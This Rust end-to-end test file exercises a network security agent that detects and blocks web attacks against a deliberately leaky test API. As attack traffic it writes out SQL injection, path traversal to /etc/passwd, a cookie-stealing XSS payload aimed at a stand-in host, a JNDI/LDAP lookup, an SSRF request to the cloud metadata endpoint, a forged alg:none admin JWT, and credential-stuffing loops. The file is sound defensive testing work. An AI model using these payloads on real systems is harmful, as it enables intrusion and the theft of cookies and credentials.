//! The detectors end to end: an attacker pod (a customer range in the inventory) against an API
//! pod that leaks data and stack traces; the agent captures the real traffic and reports each
//! attack and leak with the attacker's identity and masked evidence; in block mode, the
//! attacker's next connection is dropped by XDP, and `moat drops` finds the drop by the attacker's
//! network.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::{path::Path, time::Duration};

use base64::Engine as _;
use moat_e2e::{
    RunningAgent, Scratch, StateDir,
    capture::{assert_blocked, curl_status, start_peer_server},
    collector::{COLLECTOR_PORT, moat_json, start_collector},
    require_root, two_pods, write_atomically,
};
use testbed::{Node, Pod};

/// The attacker's address is a customer's range: findings name the customer.
fn inventory(attacker: &Pod) -> String {
    format!(
        "ranges:\n  - {{name: partner-lab, kind: customer, customer: Acme Corp, cidrs: [{}/32]}}\n",
        attacker.ipv4
    )
}

/// The API's spec says card numbers leave masked to their last four digits; they do not.
const SPEC: &str = r##"
openapi: 3.0.3
info: {title: leaky, version: "1"}
paths:
  /customers:
    get:
      responses:
        "200":
          description: the customers
          content:
            application/json:
              schema: {type: array, items: {$ref: "#/components/schemas/Customer"}}
components:
  schemas:
    Customer:
      type: object
      properties:
        card: {type: string, x-moat-masked: last4}
"##;

fn bind_spec(inventory: String, spec: &Path, server: &Pod, port: u16) -> String {
    format!(
        "{inventory}apis:\n  - name: leaky\n    spec: {}\n    servers: [{{address: {}/32, port: {port}}}]\n",
        spec.display(),
        server.ipv4
    )
}

fn start_agent(
    node: &Node,
    state: &StateDir,
    files: (&Path, &Path),
    port: u16,
    extra: &[&str],
) -> RunningAgent {
    let (inventory, detection) = (files.0.display().to_string(), files.1.display().to_string());
    let port = port.to_string();
    let mut args = vec![
        "--capture",
        "on",
        "--capture-port",
        &port,
        "--inventory",
        &inventory,
        "--detection",
        &detection,
        "--iface-glob",
        "v*",
        "--kubernetes",
        "off",
        "--new-endpoint-findings",
        "off",
        "--new-caller-findings",
        "off",
    ];
    args.extend(extra);
    RunningAgent::start(node, state, &[], &args)
}

fn unsigned_token() -> String {
    let encode = |json: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(json);
    format!(
        "{}.{}.",
        encode(r#"{"alg":"none","typ":"JWT"}"#),
        encode(r#"{"sub":"mallory","scope":"admin"}"#)
    )
}

#[test]
fn an_attacker_pod_is_named_in_the_findings_of_its_attacks_and_the_api_in_its_leaks() {
    require_root();
    let (node, attacker, server) = two_pods("detect");
    const PORT: u16 = 18653;
    let (_api, address) = start_peer_server(&server, "leaky_api.py", PORT);
    let scratch = Scratch::new("detect");
    let (inventory_file, detection_file) = (
        scratch.file("inventory.yaml"),
        scratch.file("detection.yaml"),
    );
    let spec_file = scratch.file("leaky.yaml");
    write_atomically(&spec_file, SPEC);
    write_atomically(
        &inventory_file,
        &bind_spec(inventory(&attacker), &spec_file, &server, PORT),
    );
    write_atomically(&detection_file, "modes:\n  headers.*: off\n");
    let state = StateDir::new();
    let _collector = start_collector(&node, &scratch.file("moat.db"), &[]);
    let collector_url = format!("http://127.0.0.1:{COLLECTOR_PORT}");
    let mut agent = start_agent(
        &node,
        &state,
        (&inventory_file, &detection_file),
        PORT,
        &["--collector", &collector_url, "--export-interval", "200ms"],
    );

    let base = format!("http://{address}");
    let bearer = format!("Authorization: Bearer {}", unsigned_token());
    let mark = agent.mark();
    let url = |path: &str| format!("{base}{path}");
    let attacks: [(Vec<String>, &str, &str); 7] = [
        (
            vec![url("/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--")],
            "500",
            "threat.sqli",
        ),
        (
            vec![url("/files?name=..%2F..%2F..%2F..%2Fetc%2Fpasswd")],
            "200",
            "threat.path_traversal",
        ),
        (
            vec![
                "-H".into(),
                "Content-Type: application/json".into(),
                "-d".into(),
                r#"{"comment":"<script>document.location='//x.example/?c='+document.cookie</script>"}"#.into(),
                url("/comments"),
            ],
            "201",
            "threat.xss",
        ),
        (
            vec!["-A".into(), "sqlmap/1.7.2#stable (https://sqlmap.org)".into(), url("/")],
            "200",
            "threat.scanner",
        ),
        (
            vec!["-H".into(), "X-Api-Version: ${jndi:ldap://198.18.1.10:1389/a}".into(), url("/")],
            "200",
            "threat.jndi",
        ),
        (
            vec![url("/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F")],
            "200",
            "threat.ssrf",
        ),
        (vec!["-H".into(), bearer.clone(), url("/me")], "200", "auth.jwt_alg_none"),
    ];
    for (args, status, _) in &attacks {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        assert_eq!(
            curl_status(&attacker, &args).as_deref(),
            Ok(*status),
            "{args:?}"
        );
    }
    for (_, _, kind) in &attacks {
        let finding = agent.wait_since(mark, Duration::from_secs(10), |record| {
            record["kind"] == "api.finding" && record["finding"] == *kind
        });
        let source = &finding["source"];
        assert_eq!(source["ip"], attacker.ipv4.to_string(), "{finding}");
        assert_eq!(source["customer"], "Acme Corp", "{finding}");
        assert_eq!(
            finding["destination"]["ip"],
            server.ipv4.to_string(),
            "{finding}"
        );
        assert_eq!(finding["mode"], "detect", "{finding}");
        assert!(
            !finding["rule"].as_str().unwrap_or_default().is_empty() || kind.starts_with("auth."),
            "which rule fired: {finding}"
        );
    }
    // What the detectors find in a query (and every key or token there) leaves the agent
    // redacted in the call's record.
    assert_eq!(
        curl_status(
            &attacker,
            &[&url(
                "/profile?email=ann%40example.com&access_token=tk-9f8e7d6c&page=2"
            )]
        )
        .as_deref(),
        Ok("200")
    );
    let profile = agent.wait_since(mark, Duration::from_secs(10), |record| {
        record["kind"] == "api.call" && record["path"] == "/profile"
    });
    assert_eq!(
        profile["query"], "email=[redacted]&access_token=[redacted]&page=2",
        "{profile}"
    );

    // Over many calls: walking order ids one by one, and failed logins across accounts.
    let mut orders: Vec<String> = Vec::new();
    for id in 5001..=5025 {
        // One keep-alive connection; curl wants an output per URL past the first.
        if id > 5001 {
            orders.extend(["-o".to_owned(), "/dev/null".to_owned()]);
        }
        orders.push(url(&format!("/orders/{id}")));
    }
    let orders: Vec<&str> = orders.iter().map(String::as_str).collect();
    assert_eq!(curl_status(&attacker, &orders), Ok("200".repeat(25)));
    for user in 0..10 {
        let form = format!("username=victim{user}&password=Summer2026");
        assert_eq!(
            curl_status(&attacker, &["-d", &form, &url("/login")]).as_deref(),
            Ok("401")
        );
    }
    for (kind, endpoint) in [
        ("threat.bola_enumeration", "/orders/{id}"),
        ("threat.credential_stuffing", "/login"),
    ] {
        let burst = agent.wait_since(mark, Duration::from_secs(10), |record| {
            record["finding"] == kind
        });
        assert_eq!(burst["endpoint"], endpoint, "{burst}");
        assert_eq!(burst["source"]["customer"], "Acme Corp", "{burst}");
    }

    let trace = agent.wait_since(mark, Duration::from_secs(10), |record| {
        record["finding"] == "leak.stack_trace"
    });
    assert_eq!(trace["endpoint"], "/search", "{trace}");
    assert_eq!(trace["rule"], "trace.python", "{trace}");

    // The server's leak: one finding per kind for the whole list, values never shown.
    let leak_mark = agent.mark();
    for _ in 0..3 {
        assert_eq!(
            curl_status(&attacker, &[&format!("{base}/customers")]).as_deref(),
            Ok("200")
        );
    }
    for kind in [
        "data.email",
        "data.payment_card",
        "data.masking_ineffective",
    ] {
        let finding = agent.wait_since(leak_mark, Duration::from_secs(10), |record| {
            record["finding"] == kind
        });
        assert!(
            finding["message"].as_str().unwrap().starts_with("2 "),
            "both customers' values are one finding: {finding}"
        );
        let text = finding.to_string();
        for value in ["ann@example.com", "4111 1111 1111 1111", "5500"] {
            assert!(!text.contains(value), "{value} leaked into {finding}");
        }
    }
    // Where the card numbers went, from the agent's data flows through the collector.
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    let flows = loop {
        let flows = moat_json(
            &node,
            &["dataflow", "--class", "financial", "--direction", "out"],
        );
        // The agent reports flows as they change: wait for the totals of all three calls.
        let all_counted = flows
            .iter()
            .any(|flow| flow["kind"] == "data.payment_card" && flow["calls"] == 3);
        if all_counted || std::time::Instant::now() > deadline {
            break flows;
        }
        std::thread::sleep(Duration::from_millis(300));
    };
    let cards = flows
        .iter()
        .find(|flow| flow["kind"] == "data.payment_card")
        .unwrap_or_else(|| panic!("no card flow in {flows:?}"));
    assert_eq!(cards["service"], "leaky", "{cards}");
    assert_eq!(cards["endpoint"], "/customers", "{cards}");
    assert_eq!(cards["calls"], 3, "{cards}");
    assert_eq!(cards["values"], 6, "two cards per response: {cards}");
    assert_eq!(cards["encrypted"], false, "{cards}");
    assert!(
        cards.to_string().contains("Acme Corp"),
        "the counterpart is the customer's range: {cards}"
    );

    let records = agent.stop();
    let said = |kind: &str, endpoint: &str| {
        records
            .iter()
            .filter(|record| {
                record["kind"] == "api.finding"
                    && record["finding"] == kind
                    && (endpoint.is_empty() || record["endpoint"] == endpoint)
            })
            .count()
    };
    assert_eq!(
        said("data.email", "/customers"),
        1,
        "the same leak is said once per repeatAfter"
    );
    assert_eq!(
        said("headers.missing_security_headers", ""),
        0,
        "headers.* is off"
    );
    for call in records.iter().filter(|record| record["kind"] == "api.call") {
        assert!(
            !call.to_string().contains(&unsigned_token()),
            "credentials never leave the agent: {call}"
        );
    }
}

#[test]
fn block_mode_drops_the_attackers_next_connection() {
    require_root();
    let (node, attacker, server) = two_pods("detectblock");
    const PORT: u16 = 18654;
    let (_api, address) = start_peer_server(&server, "leaky_api.py", PORT);
    let scratch = Scratch::new("detectblock");
    let (inventory_file, detection_file) = (
        scratch.file("inventory.yaml"),
        scratch.file("detection.yaml"),
    );
    write_atomically(&inventory_file, &inventory(&attacker));
    write_atomically(
        &detection_file,
        "modes:\n  threat.*: block\nblockFor: 60s\n",
    );
    let state = StateDir::new();
    let _collector = start_collector(&node, &scratch.file("moat.db"), &[]);
    let collector_url = format!("http://127.0.0.1:{COLLECTOR_PORT}");
    let mut agent = start_agent(
        &node,
        &state,
        (&inventory_file, &detection_file),
        PORT,
        &["--collector", &collector_url, "--export-interval", "200ms"],
    );

    let base = format!("http://{address}");
    assert_eq!(
        curl_status(&attacker, &[&format!("{base}/customers")]).as_deref(),
        Ok("200")
    );
    let mark = agent.mark();
    assert_eq!(
        curl_status(
            &attacker,
            &[&format!("{base}/search?q=1%27%20OR%20%271%27%3D%271")]
        )
        .as_deref(),
        Ok("500"),
        "the first attack reaches the server: its captured bytes are what is judged"
    );
    let finding = agent.wait_since(mark, Duration::from_secs(10), |record| {
        record["finding"] == "threat.sqli"
    });
    assert_eq!(finding["mode"], "block", "{finding}");
    let blocked = agent.wait_since(mark, Duration::from_secs(10), |record| {
        record["finding"] == "policy.blocked"
    });
    assert_eq!(blocked["rule"], "threat.sqli", "{blocked}");
    assert_eq!(blocked["source"]["customer"], "Acme Corp", "{blocked}");
    assert_blocked(
        &mut agent,
        mark,
        &attacker,
        60,
        &[&format!("{base}/customers")],
    );
    // The operator asks the collector what was blocked: the attacker's network, as an
    // operator would write it, finds the drop the agent shipped.
    let network = format!("{}/24", attacker.ipv4);
    let args = ["drops", "--reason", "timed_block", "--source", &network];
    let deadline = std::time::Instant::now() + Duration::from_secs(15);
    let drops = loop {
        let drops = moat_json(&node, &args);
        if !drops.is_empty() || std::time::Instant::now() > deadline {
            break drops;
        }
        std::thread::sleep(Duration::from_millis(300));
    };
    let drop = drops
        .first()
        .unwrap_or_else(|| panic!("moat drops shows no timed block of {network}"));
    assert_eq!(drop["reason"], "timed_block", "{drop}");
    assert!(
        drop["rule"]
            .as_str()
            .is_some_and(|why| why.starts_with("threat.sqli on ")),
        "a timed block's drop says why the block was made: {drop}"
    );
    assert_eq!(drop["source"]["ip"], attacker.ipv4.to_string(), "{drop}");
    assert_eq!(drop["source"]["customer"], "Acme Corp", "{drop}");
    assert_eq!(drop["destination"]["ip"], server.ipv4.to_string(), "{drop}");
    assert_eq!(drop["destination"]["port"], PORT, "{drop}");
    let summary = moat_json(&node, &["drops", "--summary", "--source", "Acme Corp"]);
    assert_eq!(summary.len(), 1, "one reason, rule and source: {summary:?}");
    assert!(summary[0]["drops"].as_u64() >= Some(1), "{summary:?}");
    assert!(
        moat_json(&node, &["drops", "--reason", "rule"]).is_empty(),
        "no policy rule dropped anything"
    );
    agent.stop();
}
